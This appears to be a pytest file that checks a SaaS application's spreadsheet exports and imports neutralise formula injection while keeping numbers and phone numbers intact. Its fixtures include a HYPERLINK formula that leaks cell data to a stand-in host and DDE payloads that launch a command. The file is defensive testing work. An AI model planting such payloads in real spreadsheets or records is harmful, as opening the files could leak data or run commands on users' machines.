"""Spreadsheet formula injection: text that a spreadsheet would read as a formula is inert in every
export (customer and contact lists, the import report, the whole-company archive), while numbers
and phone numbers stay usable. The files are opened with openpyxl, as the Boss's Excel would."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from saas_core.customers import services as customer_services
from saas_core.imports import readers
from saas_core.imports.formulas import neutralise, restore
from saas_core.imports.xlsx import Sheet, write_xlsx
from tests.conftest import in_tenant
from tests.saas_core.imports.conftest import csv_bytes, import_file, run, uploaded

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(data: bytes) -> list:
    """Every cell of every sheet of an xlsx file (openpyxl's view of it)."""
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_inert(data: bytes, expected_texts: list[str]) -> list:
    found = cells(data)
    assert not [c.coordinate for c in found if c.data_type == "f"], "a cell is a formula"
    live = [c.value for c in found if isinstance(c.value, str) and c.value.startswith(TRIGGERS)
            and not c.value.lstrip("+-").replace(" ", "").isdigit()]
    assert live == [], f"text that Excel would read as a formula: {live}"
    texts = {c.value for c in found if isinstance(c.value, str)}
    for text in expected_texts:  # preserved after the apostrophe, nothing else changed
        assert "'" + text in texts, text
    return found


def test_the_rule_per_kind_of_value():
    assert neutralise(HYPERLINK) == "'" + HYPERLINK
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    # plain numbers and phone numbers typed as text stay as they are
    for text in ("+86 138 0013 8000", "+8613800138000", "-12.50", "+1 (415) 555-0100", "010-62345678"):
        assert neutralise(text) == text
    for text in ("北京华兴", "a=b", "", "'plain", "'12"):
        assert neutralise(text) == text
    # text that already looks neutralised gets one more apostrophe, so that import restores it exactly
    assert neutralise("'=already") == "''=already" and neutralise("'-5") == "''-5"


def test_import_takes_off_exactly_the_apostrophe_export_put_on():
    for text in [*HOSTILE, "'=already", "''+x", "'-5", "-12.50", "+86 138 0013 8000", "'plain", "'", "a'=b", ""]:
        assert restore(neutralise(text)) == text, text
    # only an apostrophe before = + - @ tab CR is ours
    for text in ("'plain", "'12", "'", "'中文"):
        assert restore(text) == text


def test_the_writer_keeps_numbers_numeric_and_neutralises_text(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx(path, [Sheet("s", ["=header", "amount", "phone"],
                            [[HYPERLINK, Decimal("-12.50"), "+86 139 1234 5678"], ["-1+cmd|x", -3, "+8613800138000"]])])
    found = assert_inert(path.read_bytes(), [HYPERLINK, "=header", "-1+cmd|x"])
    by_ref = {c.coordinate: c for c in found}
    assert by_ref["B2"].value == Decimal("-12.50") and by_ref["B2"].data_type == "n"
    assert by_ref["B3"].value == -3 and by_ref["B3"].data_type == "n"
    assert by_ref["C2"].value == "+86 139 1234 5678" and by_ref["C3"].value == "+8613800138000"
    shared = tmp_path / "shared.xlsx"
    write_xlsx(shared, [Sheet("s", ["h"], [[HYPERLINK]])], shared_strings=True)
    assert_inert(shared.read_bytes(), [HYPERLINK])


def test_csv_rows_are_neutralised_too():
    data = readers.csv_bytes([["name", "amount", "phone"], [HYPERLINK, -5, "+86 139 1234 5678"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + HYPERLINK, "-5", "+86 139 1234 5678"]


@pytest.fixture
def hostile(tenant_a, boss_a):
    with in_tenant(tenant_a):
        customer_services.create_customer(
            by=boss_a, name=HYPERLINK, phone="+86 10 6234 5678", confirm_duplicates=True, check_permission=False,
            contact={"name": "@SUM(1+1)*cmd|' /C calc'!A0", "mobile": "13812345678", "title": "-2+3+cmd|x"},
        )
    return boss_a


def test_customer_and_contact_list_exports(tenant_a, hostile, client_for):
    client = client_for(tenant_a, hostile)
    customers = b"".join(client.get("/imports/export/customers.xlsx").streaming_content)
    found = assert_inert(customers, [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0"])
    assert "+86 10 6234 5678" in {c.value for c in found}
    contacts = b"".join(client.get("/imports/export/contacts.xlsx").streaming_content)
    assert_inert(contacts, ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|x"])


def test_the_import_report_repeats_rejected_rows_inertly(tenant_a, boss_a):
    rows = [["", "企业", "", "", "", HYPERLINK, "13700003333", "+cmd|' /C calc'!A0"]]  # no name: rejected
    with in_tenant(tenant_a):
        job = uploaded(by=boss_a, kind="customers", upload=csv_bytes(rows), filename="x.csv")
        job = run(job)
        assert job.rejected == 1 and job.report
        from saas_core.imports import storage

        with storage.open_file(job.report) as fh:
            assert_inert(fh.read(), [HYPERLINK, "+cmd|' /C calc'!A0"])


def test_the_company_archive(tenant_a, hostile, client_for, settings, tmp_path, django_capture_on_commit_callbacks,
                             monkeypatch):
    from saas_core.celery import app
    from saas_core.exports.models import CompanyExport

    monkeypatch.setitem(app.conf, "task_always_eager", True)
    boss = client_for(tenant_a, hostile)
    with django_capture_on_commit_callbacks(execute=True):
        boss.post("/company/export/start/")
    with in_tenant(tenant_a):
        export = CompanyExport.objects.get()
    data = b"".join(boss.get(f"/company/export/{export.token}/download/").streaming_content)
    zf = zipfile.ZipFile(io.BytesIO(data))
    assert_inert(zf.read("customers.customer.xlsx"), [HYPERLINK])
    assert_inert(zf.read("customers.contact.xlsx"), ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|x"])
    for name in zf.namelist():
        if name.endswith(".xlsx"):
            assert_inert(zf.read(name), [])
    data = json.loads(zf.read("data.json"))  # the machine-readable copy keeps the raw value
    assert [c["name"] for c in data["entities"]["customers.customer"]] == [HYPERLINK]


def test_an_exported_customer_list_imports_back_as_the_original_text(tenant_a, tenant_b, hostile, client_for,
                                                                     make_user):
    """Export from one company, import into another: the names come back without the apostrophes
    the export added (they were kept before: "'=HYPERLINK(…)")."""
    data = b"".join(client_for(tenant_a, hostile).get("/imports/export/customers.xlsx").streaming_content)
    assert_inert(data, [HYPERLINK])
    from saas_core.accounts.models import User
    from saas_core.customers.models import Contact, Customer

    with in_tenant(tenant_b):
        boss_b = User.objects.get(username=tenant_b.boss_username)
    make_user(tenant_b, name=hostile.name)  # the owner column names A's Boss
    job = import_file(tenant_b, boss_b, data, "customers.xlsx")
    assert job.imported == 1, (job.status, job.error, job.rejected)

    with in_tenant(tenant_b):
        assert list(Customer.objects.values_list("name", flat=True)) == [HYPERLINK]
        assert Customer.objects.get().phone == "+86 10 6234 5678"
        assert list(Contact.objects.values_list("name", flat=True)) == ["@SUM(1+1)*cmd|' /C calc'!A0"]


def test_a_csv_export_imports_back_too(tenant_a, boss_a):
    data = readers.csv_bytes([["客户名称", "电话"], [HYPERLINK, "010-62345678"], ["'=already", "010-62345679"]])
    job = import_file(tenant_a, boss_a, data, "customers.csv")
    assert job.imported == 2, (job.status, job.error)
    from saas_core.customers.models import Customer

    with in_tenant(tenant_a):
        assert sorted(Customer.objects.values_list("name", flat=True)) == sorted([HYPERLINK, "'=already"])
